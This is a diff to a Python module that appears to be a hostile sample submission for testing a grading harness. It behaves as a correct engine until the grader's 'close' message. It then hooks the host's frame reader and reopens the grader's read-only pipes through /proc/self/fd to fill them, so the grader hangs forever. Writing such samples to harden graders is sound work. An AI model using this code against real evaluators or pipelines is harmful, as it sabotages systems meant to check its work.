@@ -1,7 +1,14 @@
-# base: reference. Reopens every descriptor it holds through /proc/self/fd for writing, and
-# writes to each (and to the descriptors themselves) until it is full, so that whoever writes
-# there next waits forever.
+# base: reference. A correct engine until the grader says it is done with it; then it reopens
+# every pipe it only reads from through /proc/self/fd for writing (which gives write
+# access to the read end of a pipe) and fills it, so that whoever writes there next (the grader,
+# sending the next hand-in's source) waits forever.
+import fcntl
 import os
+import stat
+import sys
+
+_host = sys.modules["__main__"]
+_read_frame = _host.read_frame
 
 
 def _fill(fd):
@@ -13,11 +20,17 @@ def _fill(fd):
         pass
 
 
-for _fd in range(3, 64):
-    try:
-        _w = os.open(f"/proc/self/fd/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
-    except OSError:
-        _w = None
-    if _w is not None:
-        _fill(_w)
-    _fill(_fd)
+def _read(fd, *args):
+    frame = _read_frame(fd, *args)
+    if isinstance(frame, dict) and frame.get("op") == "close":
+        for n in range(3, 64):
+            try:
+                if fcntl.fcntl(n, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY and \
+                        stat.S_ISFIFO(os.fstat(n).st_mode):
+                    _fill(os.open(f"/proc/self/fd/{n}", os.O_WRONLY | os.O_NONBLOCK))
+            except OSError:
+                pass
+    return frame
+
+
+_host.read_frame = _read
